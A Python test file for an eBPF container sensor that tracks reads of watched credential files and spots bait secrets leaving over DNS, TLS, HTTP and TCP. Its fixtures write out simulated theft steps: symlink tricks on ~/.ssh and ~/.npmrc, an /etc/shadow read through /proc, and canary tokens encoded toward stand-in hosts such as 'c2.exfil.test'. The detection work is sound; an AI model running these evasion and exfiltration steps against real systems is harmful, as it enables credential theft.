"""
The sensor's userspace half without root: a fake BPF (tables and a ring
buffer fed with hand-built records, the layouts of L{tests.runner.test_decode})
and a fake C{/proc}.  Every route a process can take to a file, the fd
tables, the network records, canaries, process events and the fanotify path.
"""

from __future__ import annotations

import ctypes
import struct
from typing import Any, Dict, List, Optional, Tuple

from twisted.internet.task import Clock
from twisted.trial.unittest import SynchronousTestCase

from fangs.runner import decode
from fangs.runner.fanotify import BaitEvent
from fangs.runner.sensor import Sensor
from fangs.wire import RunID, WatchedPath
from tests.runner.test_decode import (
    clientHello,
    dataRecord,
    dnsQuery,
    fileRecord,
    header,
    linkRecord,
    netRecord,
    smallRecord,
)

RUN = RunID(bytes(range(16)))
SLOT = 0  # the first slot the sensor hands out
CGID = 456
N = decode.RESOLVE_NEEDED
LINKED = decode.RESOLVE_LINKED
DIR = decode.RESOLVE_DIR
O_DIRECTORY = 0o200000


class _Bag:
    def __init__(self, *args: Any) -> None:
        self.args = args

    def key(self) -> Any:
        if self.args:
            return self.args
        return tuple(sorted((k, bytes(v) if isinstance(v, (bytes, bytearray)) else repr(v)) for k, v in vars(self).items() if k != "args"))


class FakeTable:
    def __init__(self, percpu: bool = False) -> None:
        self.data: Dict[Any, Any] = {}
        self.percpu = percpu

    def Key(self, *args: Any) -> _Bag:
        return _Bag(*args)

    def Leaf(self, *args: Any) -> Any:
        if self.percpu:
            return [0, 0]
        return _Bag()

    @staticmethod
    def _k(key: Any) -> Any:
        if isinstance(key, ctypes.c_int):
            return key.value
        if isinstance(key, _Bag):
            return key.key()
        return key

    def __setitem__(self, key: Any, value: Any) -> None:
        self.data[self._k(key)] = value

    def __getitem__(self, key: Any) -> Any:
        return self.data[self._k(key)]

    def __delitem__(self, key: Any) -> None:
        del self.data[self._k(key)]

    def keys(self) -> List[Any]:
        return []


class FakeBPF:
    """
    The parts of a BCC BPF object the sensor uses; L{feed} queues records
    that the next C{ring_buffer_consume()} hands to the sensor.
    """

    def __init__(self, sensor: Sensor) -> None:
        self.sensor = sensor
        self.queue: List[bytes] = []
        self.tables = {name: FakeTable(percpu=name == "drops") for name in
                       ("config", "runs", "paths", "drops", "produced", "consumed", "sockdest", "fdtrack")}
        cfg = _Bag()
        cfg.others = 0
        self.tables["config"].data[0] = cfg

    def feed(self, *records: bytes) -> None:
        self.queue.extend(records)
        self.sensor._drain()

    def ring_buffer_consume(self) -> None:
        while self.queue:
            raw = self.queue.pop(0)
            buf = ctypes.create_string_buffer(raw, len(raw))
            self.sensor._onRecord(None, buf, len(raw))


class FakeProcFS:
    """
    /proc of a container: magic links by path, a filesystem of symlinks
    (absolute in-container path -> target), live pids with their
    namespace pids.
    """

    def __init__(self) -> None:
        self.links: Dict[str, bytes] = {}
        self.symlinks: Dict[bytes, bytes] = {}
        self.pids: Dict[int, int] = {}
        self.lookups = 0

    def readlink(self, path: str) -> Optional[bytes]:
        return self.links.get(path)

    def linkIn(self, pid: int, path: bytes) -> Tuple[bool, Optional[bytes]]:
        self.lookups += 1
        if pid not in self.pids:
            return False, None
        return True, self.symlinks.get(path)

    def nspid(self, pid: int) -> Optional[int]:
        return self.pids.get(pid)

    def alive(self, pid: int) -> bool:
        return pid in self.pids


class Harness:
    def __init__(self, test: SynchronousTestCase, watched: List[WatchedPath], canaries: Optional[Dict[str, str]] = None) -> None:
        self.procfs = FakeProcFS()
        self.procfs.pids[10] = 1
        self.procfs.links["/proc/10/cwd"] = b"/work"
        self.sensor = Sensor(Clock(), sourcePath="/nonexistent", cgroupRoot="/nonexistent", procfs=self.procfs,
                             monotonicNs=lambda: 42)
        self.bpf = FakeBPF(self.sensor)
        self.sensor._bpf = self.bpf
        self.sensor._tables = self.bpf.tables
        self.sensor._isParentChild = lambda cgid: True  # type: ignore[method-assign]
        self.events: List[Tuple[int, Dict[str, Any]]] = []
        self.sensor.addRun(RUN, CGID, watched, lambda t, p: self.events.append((t, p)), canaries=canaries)

    def feed(self, *records: bytes) -> List[Tuple[int, Dict[str, Any]]]:
        before = len(self.events)
        self.bpf.feed(*records)
        return self.events[before:]

    def files(self, *records: bytes) -> List[Dict[str, Any]]:
        return [p for t, p in self.feed(*records) if t == 1]


H = {"slot": SLOT}


def f(path: bytes, **kw: Any) -> bytes:
    return fileRecord(path, slot=SLOT, **kw)


WATCH = [WatchedPath("/home/node/.npmrc", cred_tagged=True), WatchedPath("/home/node/.ssh/", cred_tagged=True),
         WatchedPath("/work/pub/")]


class FileRouteTests(SynchronousTestCase):
    def setUp(self) -> None:
        self.h = Harness(self, WATCH)

    def one(self, *records: bytes) -> Dict[str, Any]:
        """
        The last file event (a watched directory opened on the way is
        reported too: it is watched).
        """
        files = self.h.files(*records)
        self.assertTrue(files)
        self.assertTrue(all(p["PathName"] == "/home/node/.ssh" for p in files[:-1]), files)
        return files[-1]

    def test_kernelJudged(self) -> None:
        p = self.one(f(b"/home/node/.npmrc", tags=3))
        self.assertEqual((p["PathName"], p["Header"]["Tags"], p["Access"]), ("/home/node/.npmrc", 3, "read"))
        self.assertNotIn("RawPath", p)
        self.assertNotIn("_path", p)

    def test_symlinkMadeDuringRun(self) -> None:
        """
        ln -s ~/.npmrc /tmp/x; cat /tmp/x; rm /tmp/x: the link record comes
        first, the open of the link names the object.
        """
        p = self.one(linkRecord(decode.L_SYMLINK, b"/home/node/.npmrc", b"/tmp/x", **H),
                     f(b"/tmp/x", resolve=LINKED))
        self.assertEqual((p["PathName"], p["RawPath"], p["Route"], p["Header"]["Tags"]), ("/home/node/.npmrc", "/tmp/x", "symlink", 3))

    def test_relativeSymlinkToDirectory(self) -> None:
        # cd /tmp && ln -s ../home/node/.ssh s && cat s/id_rsa
        self.h.procfs.links["/proc/10/cwd"] = b"/tmp"
        p = self.one(linkRecord(decode.L_SYMLINK, b"../home/node/.ssh", b"s", **H), f(b"/tmp/s/id_rsa", resolve=LINKED))
        self.assertEqual((p["PathName"], p["Header"]["Tags"]), ("/home/node/.ssh/id_rsa", 3))

    def test_filesystemSymlink(self) -> None:
        """
        A link already on disk (read through /proc/<pid>/root), absolute
        target kept inside the container's root; lookups are cached.
        """
        self.h.procfs.symlinks[b"/opt/cfg"] = b"/home/node"
        p = self.one(f(b"/opt/cfg/.npmrc", resolve=LINKED))
        self.assertEqual((p["PathName"], p["Route"]), ("/home/node/.npmrc", "symlink"))
        n = self.h.procfs.lookups
        self.one(f(b"/opt/cfg/.npmrc", resolve=LINKED))
        self.assertLess(self.h.procfs.lookups - n, 3)

    def test_hardlinkMadeDuringRun(self) -> None:
        events = self.h.feed(linkRecord(decode.L_HARDLINK, b"/home/node/.npmrc", b"/tmp/h", **H), f(b"/tmp/h", resolve=LINKED))
        files = [p for t, p in events if t == 1]
        # The link itself is an access to the credential, then the open.
        self.assertEqual([(p["PathName"], p["Route"], p["Access"]) for p in files],
                         [("/home/node/.npmrc", "hardlink", "hardlink"), ("/home/node/.npmrc", "hardlink", "read")])
        self.assertEqual(files[1]["OpenedPath"], "/tmp/h")
        self.assertEqual(files[1]["Header"]["Tags"], 3)

    def test_renamedDirectory(self) -> None:
        files = self.h.files(linkRecord(decode.L_RENAME, b"/home/node/.ssh", b"/tmp/moved", **H),
                             f(b"/tmp/moved/id_ed25519", resolve=LINKED))
        self.assertEqual(files[-1]["PathName"], "/home/node/.ssh/id_ed25519")
        self.assertEqual(files[-1]["Route"], "rename")

    def test_dotsAndSlashes(self) -> None:
        p = self.one(f(b"/tmp/../home//node/./.npmrc", resolve=N))
        self.assertEqual((p["PathName"], p["RawPath"], p["Header"]["Tags"]), ("/home/node/.npmrc", "/tmp/../home//node/./.npmrc", 3))

    def test_procSelfRoot(self) -> None:
        p = self.one(f(b"/proc/self/root/home/node/.npmrc", resolve=N))
        self.assertEqual((p["PathName"], p["Route"], p["Header"]["Tags"]), ("/home/node/.npmrc", "proc", 3))
        p = self.one(f(b"/proc/thread-self/root/proc/self/root/home/node/.ssh/id_rsa", resolve=N))
        self.assertEqual(p["PathName"], "/home/node/.ssh/id_rsa")

    def test_procPidCwd(self) -> None:
        """
        /proc/<container pid>/cwd/...: the container pid is mapped to the
        host pid through NSpid.
        """
        self.h.procfs.pids[20] = 7
        self.h.procfs.links["/proc/20/cwd"] = b"/home/node"
        self.h.feed(smallRecord(decode.T_FORK, 20, **H),
                    fileRecord(b"/home/node", rtype=decode.T_CHDIR, ret=0, slot=SLOT, pid=20))
        p = self.one(f(b"/proc/7/cwd/.npmrc", resolve=N))
        self.assertEqual((p["PathName"], p["Route"]), ("/home/node/.npmrc", "proc"))
        # An unknown container pid: unresolved, counted, reported.
        events = self.h.feed(f(b"/proc/99/cwd/.npmrc", resolve=N))
        self.assertEqual([t for t, _p in events], [decode.T_UNRESOLVED])
        self.assertEqual(events[0][1]["RawPath"], "/proc/99/cwd/.npmrc")
        self.assertIn("99", events[0][1]["Reason"])
        self.assertEqual(self.h.sensor.unresolvedFor(RUN), 1)

    def test_procSelfFd(self) -> None:
        self.h.feed(f(b"/home/node", flags=O_DIRECTORY, ret=7, resolve=DIR))
        p = self.one(f(b"/proc/self/fd/7/.npmrc", resolve=N))
        self.assertEqual(p["PathName"], "/home/node/.npmrc")
        p = self.one(f(b"/dev/fd/7/.ssh/id_rsa", resolve=LINKED))
        self.assertEqual(p["PathName"], "/home/node/.ssh/id_rsa")

    def test_longPath(self) -> None:
        raw = b"/home/node/" + b"x/../" * 100 + b".npmrc"
        p = self.one(f(raw, resolve=N))
        self.assertEqual(p["PathName"], "/home/node/.npmrc")
        self.assertGreater(len(p["RawPath"]), 256)
        self.assertIn("long", p["Routes"])

    def test_relativeToCwd(self) -> None:
        self.h.feed(f(b"/home/node", rtype=decode.T_CHDIR, ret=0))
        p = self.one(f(b".npmrc", resolve=N))
        self.assertEqual((p["PathName"], p["RawPath"]), ("/home/node/.npmrc", ".npmrc"))

    def test_threadsShareCwd(self) -> None:
        self.h.feed(fileRecord(b"/home/node", rtype=decode.T_CHDIR, ret=0, slot=SLOT, pid=10, tid=12))
        p = self.h.files(fileRecord(b".npmrc", resolve=N, slot=SLOT, pid=10, tid=13))[0]
        self.assertEqual(p["PathName"], "/home/node/.npmrc")

    def test_forkInheritsCwd(self) -> None:
        self.h.feed(f(b"/home/node", rtype=decode.T_CHDIR, ret=0), smallRecord(decode.T_FORK, 30, **H))
        p = self.h.files(fileRecord(b".ssh/id_rsa", resolve=N, slot=SLOT, pid=30, tid=30))[0]
        self.assertEqual(p["PathName"], "/home/node/.ssh/id_rsa")

    def test_dirfdReused(self) -> None:
        """
        fd 5 is /work, closed, then fd 5 is /home/node/.ssh: a relative
        openat on 5 is in the second directory.
        """
        p = self.one(f(b"/work", flags=O_DIRECTORY, ret=5, resolve=DIR),
                     smallRecord(decode.T_CLOSE, 5, 5, **H),
                     f(b"/home/node/.ssh", flags=O_DIRECTORY, ret=5, resolve=DIR),
                     f(b"id_rsa", dfd=5, resolve=N))
        self.assertEqual((p["PathName"], p["Route"], p["Header"]["Tags"]), ("/home/node/.ssh/id_rsa", "dirfd", 3))

    def test_dirfdGone(self) -> None:
        """
        The directory fd is closed before the sensor reads the record: the
        fd table still knows it.  The /proc link is not needed.
        """
        p = self.one(f(b"/home/node/.ssh", flags=O_DIRECTORY, ret=5, resolve=DIR),
                     f(b"id_rsa", dfd=5, resolve=N), smallRecord(decode.T_CLOSE, 5, 5, **H))
        self.assertEqual(p["PathName"], "/home/node/.ssh/id_rsa")

    def test_dirfdUnknown(self) -> None:
        """
        A dirfd never seen and no longer open: an UNRESOLVED event with the
        raw string, counted; a failed open is not an access.
        """
        events = self.h.feed(f(b"id_rsa", dfd=9, resolve=N))
        self.assertEqual([(t, p["RawPath"], p["DFD"]) for t, p in events], [(decode.T_UNRESOLVED, "id_rsa", 9)])
        self.assertEqual(self.h.feed(f(b"id_rsa", dfd=9, ret=-9, resolve=N)), [])
        self.assertEqual(self.h.sensor.unresolvedFor(RUN), 1)

    def test_dirfdReusedBeforeTheSensorLooks(self) -> None:
        """
        By the time the record is read, fd 3 is closed and reused for
        another directory (the /proc link says /work): the open that was
        reported names the directory.
        """
        self.h.procfs.links["/proc/10/fd/3"] = b"/work"
        p = self.one(f(b"/home/node/.ssh", ret=3, resolve=LINKED), f(b"id_rsa", dfd=3, resolve=N))
        self.assertEqual(p["PathName"], "/home/node/.ssh/id_rsa")

    def test_dirfdLiveLink(self) -> None:
        self.h.procfs.links["/proc/10/fd/9"] = b"/home/node/.ssh"
        p = self.one(f(b"id_rsa", dfd=9, resolve=N))
        self.assertEqual(p["PathName"], "/home/node/.ssh/id_rsa")

    def test_dupAndFcntl(self) -> None:
        p = self.one(f(b"/home/node/.ssh", flags=O_DIRECTORY, ret=5, resolve=DIR),
                     smallRecord(decode.T_DUP, 5, 9, 1, **H),
                     smallRecord(decode.T_CLOSE, 5, 5, **H),
                     f(b"id_rsa", dfd=9, resolve=N))
        self.assertEqual(p["PathName"], "/home/node/.ssh/id_rsa")

    def test_fchdir(self) -> None:
        p = self.one(f(b"/home/node/.ssh", flags=O_DIRECTORY, ret=5, resolve=DIR),
                     smallRecord(decode.T_FCHDIR, 5, **H),
                     smallRecord(decode.T_CLOSE, 5, 5, **H),
                     f(b"id_rsa", resolve=N))
        self.assertEqual(p["PathName"], "/home/node/.ssh/id_rsa")

    def test_unreadablePath(self) -> None:
        """
        The kernel could not read the string: the returned fd's link
        answers while it is open; otherwise the access is unresolved.
        """
        self.h.procfs.links["/proc/10/fd/3"] = b"/home/node/.npmrc"
        p = self.one(f(b"", resolve=decode.RESOLVE_UNREADABLE))
        self.assertEqual((p["PathName"], p["Route"], p["Header"]["Tags"]), ("/home/node/.npmrc", "fd", 3))
        del self.h.procfs.links["/proc/10/fd/3"]
        events = self.h.feed(f(b"", resolve=decode.RESOLVE_UNREADABLE))
        self.assertEqual([(t, p["Reason"]) for t, p in events], [(decode.T_UNRESOLVED, "path unreadable")])

    def test_unwatchedNotDelivered(self) -> None:
        self.assertEqual(self.h.files(f(b"/usr/lib/x.so", resolve=LINKED), f(b"../etc/hosts", resolve=N)), [])

    def test_symlinkLoop(self) -> None:
        events = self.h.feed(linkRecord(decode.L_SYMLINK, b"/tmp/b", b"/tmp/a", **H),
                             linkRecord(decode.L_SYMLINK, b"/tmp/a", b"/tmp/b", **H),
                             f(b"/tmp/a", resolve=LINKED))
        self.assertEqual([(t, p["Reason"]) for t, p in events if t == decode.T_UNRESOLVED], [(decode.T_UNRESOLVED, "too many levels of links")])

    def test_execveatMemfd(self) -> None:
        exe = header(decode.T_EXEC, slot=SLOT) + struct.pack("<BBHi", 1, 0, 0, 4) + bytes(decode.EXEC_SIZE - 88)
        events = self.h.feed(f(b"stage2", rtype=decode.T_MEMFD, ret=4), exe)
        execs = [p for t, p in events if t == decode.T_EXEC]
        self.assertEqual((execs[0]["BinaryPathStr"], execs[0]["ExecFD"]), ("memfd:stage2", 4))

    def test_execveatOfAnFdNeverSeenOpened(self) -> None:
        """
        An exec of an fd opened before the sensor saw the process (runc
        runs its cloned binary that way) is what /proc/<pid>/exe shows once
        the new image runs; only with nothing there is it unresolved.
        """
        exe = header(decode.T_EXEC, slot=SLOT) + struct.pack("<BBHi", 1, 0, 0, 6) + bytes(decode.EXEC_SIZE - 88)
        self.assertEqual(self.h.feed(exe), [])
        self.h.procfs.links["/proc/10/exe"] = b"/memfd:runc_cloned:/proc/self/exe (deleted)"
        events = self.h.feed(smallRecord(decode.T_EXECDONE, **H))
        self.assertEqual([(t, p["BinaryPathStr"], p["ExecFD"]) for t, p in events],
                         [(decode.T_EXEC, "/memfd:runc_cloned:/proc/self/exe (deleted)", 6)])
        self.assertNotIn("_fdUnknown", events[0][1])
        del self.h.procfs.links["/proc/10/exe"]
        self.assertEqual(self.h.feed(exe), [])
        events = self.h.feed(smallRecord(decode.T_EXECDONE, **H))
        self.assertEqual(sorted(t for t, _ in events), [decode.T_EXEC, decode.T_UNRESOLVED])
        self.assertEqual([p["Reason"] for t, p in events if t == decode.T_UNRESOLVED], ["executed fd 6 unknown"])

    def test_execveatOfAReusedFdNumber(self) -> None:
        """
        An fd executed and looked up only after the new image reused its
        number for a directory (the root) is not taken for the binary: what
        ran is what /proc/<pid>/exe shows.
        """
        exe = header(decode.T_EXEC, slot=SLOT) + struct.pack("<BBHi", 1, 0, 0, 6) + bytes(decode.EXEC_SIZE - 88)
        self.h.procfs.links["/proc/10/fd/6"] = b"/"
        self.assertEqual(self.h.feed(exe), [])
        self.h.procfs.links["/proc/10/exe"] = b"/memfd:runc_cloned:/proc/self/exe (deleted)"
        events = self.h.feed(smallRecord(decode.T_EXECDONE, **H))
        self.assertEqual([(t, p["BinaryPathStr"]) for t, p in events],
                         [(decode.T_EXEC, "/memfd:runc_cloned:/proc/self/exe (deleted)")])

    def test_forkAndExit(self) -> None:
        events = self.h.feed(smallRecord(decode.T_FORK, 31, **H), smallRecord(decode.T_EXIT, 2, 1, **H))
        self.assertEqual([(t, p.get("ChildPID"), p.get("ExitCode")) for t, p in events],
                         [(13, 31, None), (14, None, 2)])
        self.assertEqual(events[0][1]["Header"]["PID"], 10)
        self.assertNotIn("_a", events[1][1])


class NetworkTests(SynchronousTestCase):
    BAIT = {"npm_token": "npm_" + "A1b2C3d4E5" * 3 + "Zz9Yy8", "aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY"}

    def setUp(self) -> None:
        self.h = Harness(self, WATCH, canaries=self.BAIT)

    def test_udpAnyPort(self) -> None:
        events = self.h.feed(dataRecord(decode.T_DGRAM, b"\x01\x02 opaque datagram payload", port=9999, **H))
        self.assertEqual([(t, p["DestIP"], p["DestPort"], p["Len"]) for t, p in events], [(7, "127.0.0.1", 9999, 26)])

    def test_dnsAnyPortWithCanary(self) -> None:
        token = self.BAIT["npm_token"].encode().hex()  # hex, split over labels
        name = token[:60].encode() + b"." + token[60:].encode() + b".exfil.test"
        events = self.h.feed(dataRecord(decode.T_DGRAM, dnsQuery(name), port=5353, **H))
        self.assertEqual([t for t, _p in events], [4, 9])
        self.assertEqual(events[0][1]["DestPort"], 5353)
        c = events[1][1]
        self.assertEqual((c["Bait"], c["Channel"], c["DestName"], c["DestPort"]), (["npm_token"], "dns", name.decode(), 5353))

    def test_tlsSplitAcrossWrites(self) -> None:
        hello = clientHello(b"api.github.com.evil.test")
        events = self.h.feed(netRecord(2, 8443, bytes([127, 0, 0, 1]), fd=6, **H),
                             dataRecord(decode.T_STREAM, hello[:7], port=8443, fd=6, stype=1, **H),
                             dataRecord(decode.T_STREAM, hello[7:], port=8443, fd=6, stype=1, **H))
        tls = [p for t, p in events if t == 5]
        self.assertEqual([(p["SNI"], p["DestPort"]) for p in tls], [("api.github.com.evil.test", 8443)])

    def test_httpRequestWithCanaryInBody(self) -> None:
        import base64

        body = b'{"d":"' + base64.b64encode(self.BAIT["aws_secret_access_key"].encode()) + b'"}'
        req = b"POST /c HTTP/1.1\r\nHost: 127.0.0.1:8000\r\nContent-Length: %d\r\n\r\n" % (len(body),)
        events = self.h.feed(netRecord(2, 8000, bytes([127, 0, 0, 1]), fd=6, **H),
                             dataRecord(decode.T_STREAM, req, port=8000, fd=6, stype=1, **H),
                             dataRecord(decode.T_STREAM, body, port=8000, fd=6, stype=1, **H))
        http = [p for t, p in events if t == 6]
        self.assertEqual([(p["Method"], p["Host"], p["Path"], p["DestPort"]) for p in http], [("POST", "127.0.0.1:8000", "/c", 8000)])
        canaries = [p for t, p in events if t == 9]
        self.assertEqual([(p["Bait"], p["Channel"], p["DestName"]) for p in canaries], [(["aws_secret_access_key"], "http", "127.0.0.1:8000")])

    def test_clientHelloOverTLSRecords(self) -> None:
        """
        A ClientHello fragmented over three TLS records (DPI evasion), in
        two writes: the SNI is found.
        """
        hello = clientHello(b"c2.exfil.test")
        hs = hello[5:]
        parts = [hs[:20], hs[20:50], hs[50:]]
        records = b"".join(b"\x16\x03\x01" + len(p).to_bytes(2, "big") + p for p in parts)
        events = self.h.feed(dataRecord(decode.T_STREAM, records[:30], port=443, fd=6, stype=1, **H),
                             dataRecord(decode.T_STREAM, records[30:], port=443, fd=6, stype=1, **H))
        self.assertEqual([p["SNI"] for t, p in events if t == 5], ["c2.exfil.test"])

    def test_keepAliveRequests(self) -> None:
        reqs = (b"GET /geo HTTP/1.1\r\nHost: ipinfo.exfil.test\r\n\r\n"
                b"POST /up HTTP/1.1\r\nHost: ipinfo.exfil.test\r\nContent-Length: 2\r\n\r\nok"
                b"GET /stage2 HTTP/1.1\r\nHost: ipinfo.exfil.test\r\n\r\n")
        events = self.h.feed(dataRecord(decode.T_STREAM, reqs[:70], port=80, fd=6, stype=1, **H),
                             dataRecord(decode.T_STREAM, reqs[70:], port=80, fd=6, stype=1, **H))
        self.assertEqual([(p["Method"], p["Path"]) for t, p in events if t == 6], [("GET", "/geo"), ("POST", "/up"), ("GET", "/stage2")])

    def test_dnsOverTCP(self) -> None:
        q = dnsQuery(b"tcp.exfil.test", 16)
        msg = len(q).to_bytes(2, "big") + q
        events = self.h.feed(netRecord(2, 5300, bytes([127, 0, 0, 1]), fd=6, **H),
                             dataRecord(decode.T_STREAM, msg[:2], port=5300, fd=6, stype=1, **H),
                             dataRecord(decode.T_STREAM, msg[2:], port=5300, fd=6, stype=1, **H))
        dns = [p for t, p in events if t == 4]
        self.assertEqual([(p["QName"], p["QType"], p["Transport"], p["DestPort"]) for p in dns], [("tcp.exfil.test", 16, "tcp", 5300)])

    def test_plainTCPCanary(self) -> None:
        events = self.h.feed(dataRecord(decode.T_STREAM, b"\x00\x01 raw " + self.BAIT["npm_token"].encode(), port=7000, fd=6, stype=1, **H))
        self.assertEqual([(t, p.get("Channel")) for t, p in events], [(9, "tcp")])

    def test_sniCanary(self) -> None:
        name = self.BAIT["npm_token"].encode().hex()[:60] + "." + self.BAIT["npm_token"].encode().hex()[60:] + ".exfil.test"
        hello = clientHello(name.encode())
        events = self.h.feed(dataRecord(decode.T_STREAM, hello, port=443, fd=6, stype=1, **H))
        self.assertEqual([(t, p.get("Channel")) for t, p in events], [(5, None), (9, "tls")])

    def test_ioUring(self) -> None:
        events = self.h.feed(smallRecord(decode.T_IOURING, -1, **H))
        self.assertEqual([(t, p["Refused"], p["Errno"]) for t, p in events], [(8, True, 1)])


class BaitTests(SynchronousTestCase):
    def setUp(self) -> None:
        self.h = Harness(self, WATCH)

    def test_runProcess(self) -> None:
        self.h.feed(smallRecord(decode.T_FORK, 44, **H))
        self.h.sensor._onBait(self.h.sensor._runs[RUN], BaitEvent(44, "/home/node/.npmrc", "read", 0x20))
        t, p = self.h.events[-1]
        self.assertEqual((t, p["PathName"], p["Route"], p["Header"]["Tags"], p["Header"]["PID"], p["Header"]["RunID"]),
                         (1, "/home/node/.npmrc", "fanotify", 3, 44, list(RUN.raw)))

    def test_foreignProcess(self) -> None:
        n = len(self.h.events)
        self.h.sensor._onBait(self.h.sensor._runs[RUN], BaitEvent(99999999, "/home/node/.npmrc", "read", 0x20))
        self.assertEqual(len(self.h.events), n)


class AccountingTests(SynchronousTestCase):
    def test_dropsPerSlot(self) -> None:
        h = Harness(self, WATCH)
        h.bpf.tables["drops"].data[SLOT] = [2, 3]
        self.assertEqual(h.sensor.dropsFor(RUN), 5)

    def test_consumedPublished(self) -> None:
        h = Harness(self, WATCH)
        rec = f(b"/home/node/.npmrc", tags=3)
        h.feed(rec, rec)
        self.assertEqual(h.bpf.tables["consumed"].data[SLOT].value, 2 * len(rec))

    def test_strayRecord(self) -> None:
        h = Harness(self, WATCH)
        h.feed(fileRecord(b"/home/node/.npmrc", tags=3, slot=5))
        self.assertEqual(h.events, [])
        self.assertEqual(h.sensor.stats["stray"], 1)


class UnlinkTests(SynchronousTestCase):
    def test_watchedRemoved(self) -> None:
        """
        rm -rf of the home: each watched file removed is a delete access;
        others are not reported; the link itself is removed, not its target.
        """
        h = Harness(self, WATCH)
        events = h.feed(fileRecord(b"/home/node/.npmrc", rtype=decode.T_UNLINK, ret=0, tags=3, slot=SLOT),
                        fileRecord(b"/home/node/other", rtype=decode.T_UNLINK, ret=0, resolve=N, slot=SLOT),
                        linkRecord(decode.L_SYMLINK, b"/home/node/.npmrc", b"/tmp/l", **H),
                        fileRecord(b"/tmp/l", rtype=decode.T_UNLINK, ret=0, resolve=LINKED, slot=SLOT),
                        linkRecord(decode.L_HARDLINK, b"/home/node/.ssh/id_rsa", b"/tmp/h", **H),
                        fileRecord(b"/tmp/h", rtype=decode.T_UNLINK, ret=0, resolve=LINKED, slot=SLOT),
                        f(b"/tmp/h", resolve=LINKED))
        self.assertEqual([(p["PathName"], p["Access"], p["Header"]["Tags"]) for t, p in events if t == 1],
                         [("/home/node/.npmrc", "delete", 3), ("/home/node/.ssh/id_rsa", "hardlink", 3)])


class HarmlessTests(SynchronousTestCase):
    def test_unknownFdRoute(self) -> None:
        """
        /proc/self/fd/N of an fd the run never got from a reported open
        (runc's exec fifo): reported, marked harmless, not counted.
        """
        h = Harness(self, WATCH)
        events = h.feed(f(b"/proc/self/fd/5", resolve=N))
        self.assertEqual([(t, p["Harmless"]) for t, p in events], [(decode.T_UNRESOLVED, True)])
        self.assertEqual(h.sensor.unresolvedFor(RUN), 0)


class ExecTests(SynchronousTestCase):
    def test_argvNotFaultedIn(self) -> None:
        """
        argv strings the kernel could not read at the call: the event waits
        for the exec to complete and takes /proc/<pid>/cmdline; with no
        /proc left it is delivered as it is, flagged.
        """
        h = Harness(self, WATCH)
        exe = header(decode.T_EXEC, slot=SLOT, pid=4242) + struct.pack("<BBHi", 0, 2, 0, -100) + bytes(decode.EXEC_SIZE - 88)
        self.assertEqual(h.feed(exe), [])
        events = h.feed(smallRecord(decode.T_EXECDONE, slot=SLOT, pid=4242))
        self.assertEqual([(t, p.get("ArgvUnreadable")) for t, p in events], [(2, True)])
        self.assertNotIn("_unreadable", events[0][1])


class RouteWatchTests(SynchronousTestCase):
    def test_watchedRoute(self) -> None:
        """
        A prefix that watches a route (/proc/1/root/) matches the typed
        path; PathName is still the object opened.
        """
        h = Harness(self, [WatchedPath("/proc/1/root/", cred_tagged=True)])
        p = h.files(f(b"/proc/1/root/etc/shadow", resolve=N))
        self.assertEqual([(x["PathName"], x["RawPath"], x["Header"]["Tags"]) for x in p], [("/etc/shadow", "/proc/1/root/etc/shadow", 3)])
